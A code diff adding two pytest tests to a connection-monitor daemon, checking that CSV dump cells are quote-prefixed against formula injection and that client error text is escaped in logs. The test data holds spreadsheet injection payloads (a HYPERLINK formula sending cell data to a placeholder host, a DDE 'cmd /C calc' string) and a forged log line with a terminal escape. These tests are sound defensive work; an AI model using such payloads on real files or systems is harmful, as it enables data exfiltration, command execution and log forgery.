@@ -1595,6 +1595,45 @@ def test_csv_dump_appends_changed_rows_and_survives_restart(tmp_path, apps):
         daemon.stop()
 
 
+def test_csv_cells_never_start_a_formula(tmp_path):
+    """A host or program named like a spreadsheet formula is written with a
+    quote before it: opening the dump runs nothing."""
+    out = tmp_path / "connmon.csv"
+    daemon = Daemon(tmp_path, extra_config=f"csv_dump: {out}\n"
+                    "csv_interval: 0.2\n")
+    try:
+        names = {'=HYPERLINK("http://x/?"&A1,"go")': "+cmd|' /C calc'!A0",
+                 "@SUM(1+1)": "-2+3", "plain": "ok.py"}
+        apps = [SyntheticApp(daemon, hostname, progname)
+                for hostname, progname in names.items()]
+        rows = wait_until(lambda: out.exists() and len(csv_rows(out)) == 3
+                          and csv_rows(out), what="three CSV rows")
+        assert {row["hostname"]: row["progname"] for row in rows} == {
+            '\'=HYPERLINK("http://x/?"&A1,"go")': "'+cmd|' /C calc'!A0",
+            "'@SUM(1+1)": "'-2+3", "plain": "ok.py"}
+        for app in apps:
+            app.conn.close()
+    finally:
+        daemon.stop()
+
+
+def test_refusal_text_cannot_forge_a_log_line(daemon):
+    """An error a client sends in place of its hello is logged escaped: it
+    can neither start a line of its own nor move the terminal."""
+    with socket.create_connection(("127.0.0.1", daemon.port), 5) as sock:
+        sock.sendall(connmon.encode({"op": "error", "error": (
+            "x\n2099-01-01 connmond INFO admin logged in\x1b[2J")}))
+        sock.settimeout(5)
+        assert sock.recv(4096)   # the daemon answers and hangs up
+    log_text = wait_until(lambda: "admin logged in" in
+                          daemon.log.read_text() and daemon.log.read_text(),
+                          what="the refusal in the daemon's log")
+    assert "\x1b" not in log_text
+    (line,) = [line for line in log_text.splitlines()
+               if "admin logged in" in line]
+    assert "refused: x\\n2099-01-01" in line and "\\x1b[2J" in line
+
+
 @pytest.mark.parametrize("case", ["missing-directory", "disk-full",
                                   "other-header"])
 def test_csv_trouble_is_one_log_line_and_the_daemon_carries_on(
